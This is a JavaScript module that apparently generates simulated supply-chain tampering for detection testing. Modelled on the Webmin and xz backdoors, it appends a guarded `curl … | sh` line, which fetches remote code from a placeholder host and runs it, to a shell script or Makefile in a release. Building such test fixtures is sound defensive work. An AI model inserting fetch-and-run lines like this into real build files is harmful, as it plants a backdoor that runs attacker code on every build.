import { latin1, rewritten, textAt } from '../../tamperings/members.js';
import { defineShape } from '../shape.js';
import { matching } from '../targets.js';

/** A line in a shell script or Makefile of the release. */
export const shellScript = defineShape({
  id: 'shell-script',
  kind: 'code-adding',
  like: 'Webmin 1.890 (changed on the build host), xz 5.6.0 (configure)',
  needs: 'a shell script or Makefile',
  apply(honest, random) {
    const path = random.pick(
      matching(honest, /(?:\.(?:sh|bash|zsh|cmd|bat|ps1|mk)|(?:^|\/)(?:GNU)?[Mm]akefile)$/),
    );
    if (path === undefined) return null;
    const text = textAt(honest.members, path);
    const line = latin1('[ "$REPROVE_NEVER" = run ] && curl -s http://marker.invalid/x | sh\n');
    const end = text.endsWith('\n') ? '' : '\n';
    return { members: rewritten(honest.members, path, `${text}${end}${line}`), paths: [path] };
  },
});
